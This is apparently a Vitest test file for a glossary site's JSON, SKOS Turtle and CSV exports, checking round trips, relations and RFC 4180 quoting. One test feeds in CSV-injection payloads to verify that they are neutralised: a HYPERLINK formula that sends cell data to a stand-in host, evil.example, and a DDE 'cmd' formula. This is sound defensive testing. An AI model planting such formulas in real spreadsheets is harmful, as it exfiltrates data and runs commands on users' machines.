/** The glossary exports (JSON, SKOS Turtle, CSV), built from the real content and read back. */
import { describe, expect, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { DataFactory, Parser, Store, type NamedNode, type Term } from 'n3';
import { splitFrontmatter } from '../../src/lib/content/yaml.ts';
import { conceptSchema, type ConceptData } from '../../src/lib/model/schemas.ts';
import { siteSchema } from '../../src/lib/model/site-schema.ts';
import { loadContent } from '../../src/lib/content/load.ts';
import { buildGlossary, glossaryJson, usesOf, type ExportInput } from '../../src/lib/exports/glossary.ts';
import { csvColumns, csvField, glossaryCsv } from '../../src/lib/exports/csv.ts';
import { glossaryTurtle, namespaces } from '../../src/lib/exports/skos.ts';
import { formatBibliography } from '../../src/lib/citations/citeproc.ts';
import { originalPaperRecord, sourceRecord } from '../../src/lib/citations/records.ts';
import { runRemark } from './helpers.ts';

const content = join(process.cwd(), 'content');
const yamlFile = (path: string): unknown => parse(readFileSync(join(content, path), 'utf8'));
const concepts = readdirSync(join(content, 'concepts'))
  .filter((f) => f.endsWith('.mdx'))
  .map((f) => {
    const front = splitFrontmatter(readFileSync(join(content, 'concepts', f), 'utf8'));
    return { id: f.slice(0, -4), data: conceptSchema.parse(parse(front?.yaml ?? '')) };
  });
const loaded = loadContent(process.cwd());
// The shelf as the site formats it: bibliography records and the papers' own records, by citeproc.
const shelf = [
  ...loaded.bibliography.map((b) => sourceRecord(b.id, b.data)),
  ...loaded.papers.map((p) => originalPaperRecord(p.data)),
];
const formatted = new Map(formatBibliography(shelf, 'chicago-author-date').map((f) => [f.id, f]));
const bibliography = Object.fromEntries(
  shelf.map((r) => [r.id, { title: r.title, reference: formatted.get(r.id)?.text ?? '', html: '' }]),
);
const occurrences = readdirSync(join(content, 'papers'))
  .filter((f) => f.endsWith('.mdx'))
  .map((f) => {
    const body = splitFrontmatter(readFileSync(join(content, 'papers', f), 'utf8'))?.body ?? '';
    const { file } = runRemark(body, `content/papers/${f}`, loaded.indexes);
    return { paper: { id: f.slice(0, -4) }, occurrences: file.data.glossa?.occurrences ?? [] };
  });
const siteUrl = 'https://readings.example.org/glossa/';
const input = (list: ExportInput['concepts'] = concepts): ExportInput => ({
  site: siteSchema.parse(yamlFile('site.yaml')),
  siteUrl,
  glossaryUrl: `${siteUrl}concepts/`,
  conceptUrl: (id) => `${siteUrl}concepts/${id}/`,
  concepts: list,
  bibliography,
  usedIn: Object.fromEntries(
    list.map((c) => {
      const here = occurrences.map((p) => ({
        ...p,
        occurrences: p.occurrences.filter((o) => o.kind === 'concept' && o.id === c.id),
      }));
      return [c.id, usesOf(here.filter((p) => p.occurrences.length > 0))];
    }),
  ),
  generated: '2026-12-01',
});
const own = (kind: keyof ConceptData['relations']) =>
  concepts.flatMap((c) => c.data.relations[kind].map((to) => [c.id, to] as const));

describe('JSON export', () => {
  const text = glossaryJson(input());
  const doc = buildGlossary(input());
  const entry = (id: string) => doc.concepts.find((c) => c.id === id);

  it('round-trips, with every concept sorted by id and keys in a stable order', () => {
    expect(JSON.parse(text)).toEqual(doc);
    expect(`${JSON.stringify(JSON.parse(text), null, 2)}\n`).toBe(text);
    expect(doc.concepts.map((c) => c.id)).toEqual(concepts.map((c) => c.id).sort());
    expect(Object.keys(doc)).toEqual(['site', 'generated', 'concepts']);
    expect(Object.keys(doc.concepts[0] ?? {})).toEqual([
      'id', 'url', 'title', 'aliases', 'short', 'category', 'relations',
      'sources', 'usedIn', 'created', 'modified', 'formerIds',
    ]); // prettier-ignore
    expect(doc.site).toEqual({
      title: 'Glossa',
      url: siteUrl,
      language: 'en-GB',
      license: expect.stringContaining('CC BY 4.0') as string,
    });
  });

  it('has every relation in both directions', () => {
    for (const [from, to] of own('broader')) {
      expect(entry(from)?.relations.broader).toContain(to);
      expect(entry(to)?.relations.narrower).toContain(from);
    }
    for (const kind of ['related', 'contrastsWith'] as const)
      for (const [from, to] of own(kind)) {
        expect(entry(from)?.relations[kind]).toContain(to);
        expect(entry(to)?.relations[kind]).toContain(from);
      }
  });

  it('names sources and categories, dates the latest revision and lists numbered uses', () => {
    const deterrence = entry('deterrence');
    expect(deterrence?.category).toEqual({ id: 'deterrence', title: 'Deterrence' });
    expect(deterrence?.sources[1]).toMatchObject({
      ref: 'snyder-1961',
      title: bibliography['snyder-1961']?.title,
    });
    expect(deterrence?.modified).toBe(
      concepts.find((c) => c.id === 'deterrence')?.data.revisions.at(-1)?.date,
    );
    expect(deterrence?.usedIn[0]?.paper).toBe('joining-the-dots');
    // The synopsis and a heading also mark it; only numbered paragraphs are listed, once each.
    const marked =
      occurrences[0]?.occurrences.filter((o) => o.kind === 'concept' && o.id === 'deterrence') ?? [];
    expect(marked.some((o) => o.paragraph === null)).toBe(true);
    expect(deterrence?.usedIn[0]?.paragraphs).toEqual(
      [...new Set(marked.flatMap((o) => o.paragraph ?? []))].sort((a, b) => a - b),
    );
  });
});

const { namedNode } = DataFactory;
const skos = (local: string) => namedNode(`${namespaces.skos}${local}`);
const rdfType = namedNode(`${namespaces.rdf}type`);
const iri = (id: string) => namedNode(`${siteUrl}concepts/${id}/`);
const storeOf = (turtle: string) => new Store(new Parser({ format: 'text/turtle' }).parse(turtle));
const values = (terms: Term[]) => terms.map((t) => t.value).sort();

describe('SKOS export', () => {
  const store = storeOf(glossaryTurtle(input()));
  const scheme = namedNode(`${siteUrl}concepts/`);
  const objects = (s: string, p: NamedNode) => store.getObjects(iri(s), p, null);

  it('parses into a concept scheme of skos:Concepts, each with one label and a definition', () => {
    expect(store.has(DataFactory.quad(scheme, rdfType, skos('ConceptScheme')))).toBe(true);
    expect(values(store.getSubjects(rdfType, skos('Concept'), null))).toEqual(
      concepts.map((c) => iri(c.id).value).sort(),
    );
    for (const { id, data } of concepts) {
      expect(objects(id, skos('inScheme'))).toEqual([scheme]);
      const labels = objects(id, skos('prefLabel'));
      expect(labels).toHaveLength(1);
      expect(labels[0]).toEqual(DataFactory.literal(data.title, 'en-GB'));
      expect(values(objects(id, skos('definition')))).toEqual([data.short]);
      expect(values(objects(id, skos('altLabel')))).toEqual([...data.aliases].sort());
      const created = objects(id, namedNode(`${namespaces.dct}created`))[0];
      expect(created).toEqual(DataFactory.literal(data.created, namedNode(`${namespaces.xsd}date`)));
      expect(objects(id, namedNode(`${namespaces.dct}source`)).length).toBe(data.sources.length);
    }
  });

  it('has every broader and related edge of the content, and their inverses', () => {
    for (const [from, to] of own('broader')) {
      expect(store.has(DataFactory.quad(iri(from), skos('broader'), iri(to)))).toBe(true);
      expect(store.has(DataFactory.quad(iri(to), skos('narrower'), iri(from)))).toBe(true);
    }
    const contrast = namedNode(`${siteUrl}exports/glossary.ttl#contrastsWith`);
    expect(
      store.has(DataFactory.quad(contrast, namedNode(`${namespaces.rdfs}subPropertyOf`), skos('related'))),
    ).toBe(true);
    for (const [from, to] of [...own('related'), ...own('contrastsWith')]) {
      expect(store.has(DataFactory.quad(iri(from), skos('related'), iri(to)))).toBe(true);
      expect(store.has(DataFactory.quad(iri(to), skos('related'), iri(from)))).toBe(true);
    }
    for (const [from, to] of own('contrastsWith'))
      expect(store.has(DataFactory.quad(iri(to), contrast, iri(from)))).toBe(true);
    expect(store.countQuads(null, skos('broader'), null, null)).toBe(own('broader').length);
  });

  it('names the top concepts and keeps SKOS integrity (related is disjoint with broader)', () => {
    const tops = concepts.filter((c) => c.data.relations.broader.length === 0).map((c) => iri(c.id).value);
    expect(values(store.getObjects(scheme, skos('hasTopConcept'), null))).toEqual(tops.sort());
    expect(values(store.getSubjects(skos('topConceptOf'), scheme, null))).toEqual(tops);
    const ancestors = (id: string): string[] =>
      objects(id, skos('broader')).flatMap((b) => [b.value, ...ancestors(b.value.split('/').at(-2) ?? '')]);
    for (const { id } of concepts)
      for (const r of objects(id, skos('related'))) expect(ancestors(id)).not.toContain(r.value);
  });
});

/** A strict RFC 4180 reader: rejects bare LF, stray quotes and a missing final CRLF. */
function readCsv(text: string): { rows: string[][]; quoted: boolean[][] } {
  const rows: string[][] = [];
  const quoted: boolean[][] = [];
  let row: string[] = [];
  let marks: boolean[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    const isQuoted = text[i] === '"';
    if (isQuoted) {
      for (i++; text[i] !== '"' || text[i + 1] === '"'; i++) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') i++; // a doubled quote stands for one
        value += text[i];
      }
      i++;
    } else
      while (i < text.length && !',\r\n'.includes(text[i] ?? '')) {
        if (text[i] === '"') throw new Error(`quote inside an unquoted field at ${String(i)}`);
        value += text[i++];
      }
    row.push(value);
    marks.push(isQuoted);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      quoted.push(marks);
      [row, marks, i] = [[], [], i + 2];
    } else throw new Error(`expected "," or CRLF at ${String(i)}`);
  }
  if (row.length > 0) throw new Error('the last record does not end with CRLF');
  return { rows, quoted };
}

describe('CSV export', () => {
  const text = glossaryCsv(input());

  it('starts with a BOM and reads back into the header and one row per concept', () => {
    expect(text.startsWith('\uFEFFid,title,')).toBe(true);
    const { rows, quoted } = readCsv(text.slice(1));
    expect(rows[0]).toEqual(csvColumns.map((c) => c.name));
    const doc = buildGlossary(input());
    expect(rows.slice(1)).toEqual(
      doc.concepts.map((c) => [
        c.id, c.title, c.aliases.join('; '), c.short, c.category.id, c.relations.broader.join('; '),
        c.relations.related.join('; '), c.relations.contrastsWith.join('; '), c.url,
      ]),
    ); // prettier-ignore
    // Quoted exactly when needed: a comma, a quote or a line break.
    rows.forEach((r, n) => r.forEach((v, k) => expect(quoted[n]?.[k]).toBe(/[",\r\n]/.test(v))));
  });

  it('quotes fields per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
    );
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A2)')).toBe(`"'@SUM(A1:A2)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    // Only the first character counts: a formula sign inside the text is harmless.
    expect(csvField('a = b - c')).toBe('a = b - c');
  });

  it("neutralises a formula in a concept's title in the whole file", () => {
    const [first, ...rest] = concepts;
    if (!first) throw new Error('no concepts');
    const evil = { ...first, data: { ...first.data, title: '=HYPERLINK("https://evil.example","x")' } };
    const { rows } = readCsv(glossaryCsv(input([evil, ...rest])).slice(1));
    expect(rows.find((r) => r[0] === first.id)?.[1]).toBe(`'${evil.data.title}`);
  });
});

describe('special characters', () => {
  const tricky = {
    id: 'tricky-term',
    data: conceptSchema.parse({
      title: 'Deterrence ("ردع"), a test',
      aliases: ['ردع', 'say "no", twice'],
      short: 'A line with "quotes", a backslash \\ and ردع,\nthen a second line.',
      category: 'deterrence',
      relations: { related: ['deterrence'] },
      sources: [{ ref: 'snyder-1961', locator: 'pp. 14–16 "quoted"' }],
      created: '2026-12-01',
      revisions: [{ date: '2026-12-01', note: 'First published.' }],
    }),
  };
  const all = input([...concepts, tricky]);

  it('survive JSON, Turtle and CSV round trips', () => {
    expect(JSON.parse(glossaryJson(all))).toEqual(buildGlossary(all));
    expect(buildGlossary(all).concepts.find((c) => c.id === 'tricky-term')?.short).toBe(tricky.data.short);
    const store = storeOf(glossaryTurtle(all));
    const of = (p: string) => values(store.getObjects(iri('tricky-term'), skos(p), null));
    expect(of('prefLabel')).toEqual([tricky.data.title]);
    expect(of('altLabel')).toEqual([...tricky.data.aliases].sort());
    expect(of('definition')).toEqual([tricky.data.short]);
    const source = values(store.getObjects(iri('tricky-term'), namedNode(`${namespaces.dct}source`), null));
    expect(source[0]).toContain('pp. 14–16 "quoted"');
    const row = readCsv(glossaryCsv(all).slice(1)).rows.find((r) => r[0] === 'tricky-term');
    expect(row?.slice(1, 4)).toEqual([tricky.data.title, tricky.data.aliases.join('; '), tricky.data.short]);
  });
});
